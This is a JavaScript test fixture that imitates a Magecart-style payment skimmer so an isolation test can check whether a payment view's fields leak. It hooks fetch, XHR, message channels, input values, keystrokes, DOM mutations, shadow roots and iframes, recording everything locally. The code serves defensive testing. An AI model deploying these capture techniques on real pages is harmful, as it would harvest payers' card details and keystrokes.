// A Magecart-style skimmer, as a compromised dependency of a merchant's page would be: loaded
// before the view, it tries every way a script of the page has to read what a payer types
// (issue #18). It only records; tests/e2e/isolation.test.mjs reads window.__skimmer.seen.
(() => {
  const seen = [];
  const once = new Set();
  window.__skimmer = { seen };
  const show = v => { try { return typeof v === 'string' ? v : JSON.stringify(v); } catch { return String(v); } };
  const note = (how, v) => { const s = `${how} ${show(v)}`; if (!once.has(s)) { once.add(s); seen.push(s); } };

  // Every request the page makes, with its body and headers.
  const fetch0 = window.fetch;
  window.fetch = function (input, init) {
    const h = init && init.headers;
    note('fetch', [String((input && input.url) || input), init && init.body, h instanceof Headers ? [...h] : h]);
    if (input instanceof Request) {
      note('fetch request headers', [...input.headers]);
      input.clone().text().then(body => note('fetch request body', body), () => {});
    }
    return fetch0.apply(this, arguments);
  };
  const open0 = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (m, u) { note('xhr open', [m, String(u)]); return open0.apply(this, arguments); };
  const send0 = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (b) { note('xhr send', b); return send0.apply(this, arguments); };
  const header0 = XMLHttpRequest.prototype.setRequestHeader;
  XMLHttpRequest.prototype.setRequestHeader = function (n, v) { note('xhr header', [n, v]); return header0.apply(this, arguments); };

  // Every message the page posts or receives.
  const post0 = window.postMessage;
  window.postMessage = function (m) { note('postMessage', m); return post0.apply(this, arguments); };
  const portPost0 = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m) { note('port postMessage', m); return portPost0.apply(this, arguments); };
  const onmessage0 = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    get() { return onmessage0.get.call(this); },
    set(f) { onmessage0.set.call(this, typeof f === 'function' ? function (e) { note('port message', e.data); return f.call(this, e); } : f); },
  });
  addEventListener('message', e => note('message', [e.origin, e.data]), true);

  // Every field value read or written on the page.
  const value0 = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    configurable: true,
    get() { const v = value0.get.call(this); if (v) note('value', v); return v; },
    set(v) { if (v) note('value=', v); value0.set.call(this, v); },
  });

  // Every keystroke, in the capture phase, from inside shadow roots too.
  for (const type of ['keydown', 'keyup', 'input', 'paste', 'change']) {
    document.addEventListener(type, e => {
      const target = e.composedPath()[0];
      note(type, [e.key, target && target.value, e.clipboardData && e.clipboardData.getData('text')]);
    }, true);
  }

  // The view's events (documented as safe for the page to hear).
  for (const type of ['ready', 'change', 'completed', 'expired', 'error', 'confirm', 'payment-failed']) document.addEventListener(`sv-${type}`, e => note(`event ${type}`, e.detail), true);

  // Every change to the page, and inside every shadow root attached from now on.
  const observe = root => new MutationObserver(records => {
    for (const r of records) {
      for (const n of r.addedNodes) note('mutation', n.outerHTML || n.textContent);
      if (r.type === 'attributes') note('mutation attribute', [r.attributeName, r.target.getAttribute(r.attributeName)]);
      if (r.type === 'characterData') note('mutation text', r.target.data);
    }
  }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
  observe(document);
  const attach0 = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) { const root = attach0.call(this, init); observe(root); return root; };

  // A walk over the page, its open shadow roots and any frame it can enter, reading fields.
  const walk = root => {
    for (const el of root.querySelectorAll('*')) {
      if (el.shadowRoot) { note('walk shadow root of', el.id || el.localName); walk(el.shadowRoot); }
      if (el instanceof HTMLInputElement && el.value) note('walk input', [el.name, el.value]);
      if (el instanceof HTMLIFrameElement) {
        let doc = null;
        try { doc = el.contentDocument || el.contentWindow.document; } catch { doc = null; }
        if (doc) walk(doc);
        note('walk iframe', el.src);
      }
    }
  };
  setInterval(() => walk(document), 50);
})();
